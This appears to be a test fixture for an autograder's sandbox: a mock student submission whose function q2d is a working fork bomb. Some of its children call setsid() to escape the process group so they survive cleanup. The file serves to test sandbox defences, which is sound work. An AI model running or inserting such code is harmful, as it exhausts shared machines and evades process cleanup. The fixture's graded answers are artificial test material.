"""Hostile: a fork bomb inside an answer, with children that leave the process group.

Attack: q2d forks as many children as it can (up to 400), every third one escaping the process
group with setsid(); every child sleeps forever. When fork fails (the process limit), q2d returns
how many forks succeeded. At the strict level the sandbox user's process limit (64) stops it within
milliseconds; at the process level nothing limits the count (the submission runs as the grader's
user), so the bomb is capped at 400 here to spare the shared test machine, and the answer's
deadline ends it.

Expected: the bomb never slows the grader down for long; q2d earns 0 (a count is not Φ(1), or it
times out); after the run no process of it survives (the runner kills the process group, and then
every process carrying the run's tag); the honest answers are graded.
"""
# ATTACKED: q2d
# HONEST: q1a q2a q4c_alpha1 q4c_alpha2 q2c

import math
import os
import time

q1a = "Normalizing flows"
q2a = -math.log(2)
q4c_alpha1 = 0.9
q4c_alpha2 = 0.8
q2c = math.inf

CAP = 400


def _sleep_forever():
    try:
        while True:
            time.sleep(60)
    finally:
        os._exit(0)


def q2d():
    forks = 0
    for i in range(CAP):
        try:
            pid = os.fork()
        except OSError:
            return forks          # the process limit stopped the bomb
        if pid == 0:
            if i % 3 == 0:
                try:
                    os.setsid()
                except OSError:
                    pass
            _sleep_forever()
        forks += 1
    while True:                   # nothing stopped it: wait for the deadline
        time.sleep(1)
